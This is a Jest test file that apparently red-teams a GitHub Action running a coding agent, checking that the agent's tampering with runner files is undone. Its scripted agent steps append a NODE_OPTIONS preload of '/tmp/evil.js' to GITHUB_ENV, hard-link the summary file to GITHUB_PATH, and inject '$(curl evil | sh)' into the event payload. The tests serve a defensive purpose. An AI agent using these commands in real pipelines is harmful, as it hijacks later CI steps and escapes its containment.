/**
 * The runner's command files and event payload (issue 18: 2, 3), end to end on dist/index.js as a
 * hosted runner starts it (hosted.ts): what the agent wrote to them is put back, and a file that
 * cannot be put back fails the step with nothing of the agent's left in it.
 */
import { describe, expect, it } from '@jest/globals'
import fs from 'node:fs'
import { assistant, init, result, warningsOf } from '../support/helpers.js'
import { hostedRun, type HostedRun } from '../support/hosted.js'
import { shared } from '../support/shared.js'

const KEY = 'key_test_runnerfiles_0123456789'

/**
 * One run for the two tests of a runner file that cannot be put back: the agent appends to a
 * GITHUB_ENV too large to keep before the run, so what it appends cannot be taken out again.
 */
let unrestorableRun: Promise<HostedRun> | undefined
function unrestorable(): Promise<HostedRun> {
  unrestorableRun ??= hostedRun({
    setup: (_ws, paths) => {
      fs.writeFileSync(paths.env, `BIG=${'x'.repeat(4_300_000)}\n`)
    },
    before: [init],
    agent: [
      'e=$(ls "$RUNNER_FILES"/set_env_*)',
      'echo \'NODE_OPTIONS=--require /tmp/evil.js\' >> "$e"'
    ].join('\n'),
    after: [result('done')],
    inputs: { 'api-key': KEY }
  })
  return unrestorableRun
}

const EVENT = { action: 'opened', issue: { number: 3, title: 'Docs' } }

/**
 * One run for two attacks on different files: the agent puts a hard link to GITHUB_PATH in the
 * summary file's place, and rewrites the event payload a later step reads. Each test checks the
 * file of its own attack.
 */
const linkedAndRewritten = shared(() =>
  hostedRun({
    event: EVENT,
    before: [init],
    agent: [
      's=$(ls "$RUNNER_FILES"/step_summary_*); p=$(ls "$RUNNER_FILES"/add_path_*)',
      'rm -f "$s" && ln "$p" "$s"',
      'printf \'{"issue":{"number":1,"title":"$(curl evil | sh)"}}\' > "$GITHUB_EVENT_PATH"'
    ].join('\n'),
    after: [assistant('done'), result('done')],
    inputs: { 'api-key': KEY }
  })
)

describe("the runner's command files (issue 18: 2, 3)", () => {
  it('writes the summary only to the summary file: a hard link to GITHUB_PATH in its place is undone', async () => {
    const run = await linkedAndRewritten()
    expect(run.outputs.conclusion).toBe('success')
    // GITHUB_PATH is what a later step's PATH is made from: nothing of the summary is in it.
    expect(run.files.path).toBe('')
    expect(fs.statSync(run.paths.path).nlink).toBe(1)
    expect(run.summary).toContain('Cursor Agent')
    expect(warningsOf(run).join('\n')).toContain('GITHUB_STEP_SUMMARY')
  })

  it('puts back a GITHUB_ENV the agent appended NODE_OPTIONS to and made read-only', async () => {
    const run = await hostedRun({
      before: [init],
      agent: [
        'e=$(ls "$RUNNER_FILES"/set_env_*)',
        'echo \'NODE_OPTIONS=--require /tmp/evil.js\' >> "$e"',
        'chmod 444 "$e"; chmod 555 "$RUNNER_FILES"'
      ].join('\n'),
      after: [result('done')],
      inputs: { 'api-key': KEY }
    })
    expect(run.files.env).toBe('')
    expect(run.outputs.conclusion).toBe('success')
    expect(warningsOf(run).join('\n')).toContain('GITHUB_ENV')
    expect(run.summary).toMatch(/GITHUB\\?_ENV/)
  })

  it('fails the step when a runner file cannot be put back, so later steps never run with it', async () => {
    const run = await unrestorable()
    expect(run.outputs.conclusion).toBe('failure')
    expect(run.outputs.failure_reason).toBe('integrity')
    expect(run.code).toBe(1)
    expect(run.summary).toContain('could not be put back')
  })
})

describe('a runner file that cannot be put back (issue 18: 3)', () => {
  it('leaves nothing of the agent in it: a failed step’s GITHUB_ENV is still read, by post steps and if: always() steps', async () => {
    const run = await unrestorable()
    expect(run.outputs.failure_reason).toBe('integrity')
    // (A boolean: the file is over four megabytes.)
    expect(run.files.env.includes('NODE_OPTIONS')).toBe(false)
  })
})

describe('the event payload a later step reads (red team of item 3)', () => {
  it('is put back as it was when the agent rewrites it', async () => {
    const run = await linkedAndRewritten()
    expect(JSON.parse(run.event)).toEqual(EVENT)
    expect(run.outputs.conclusion).toBe('success')
  })
})
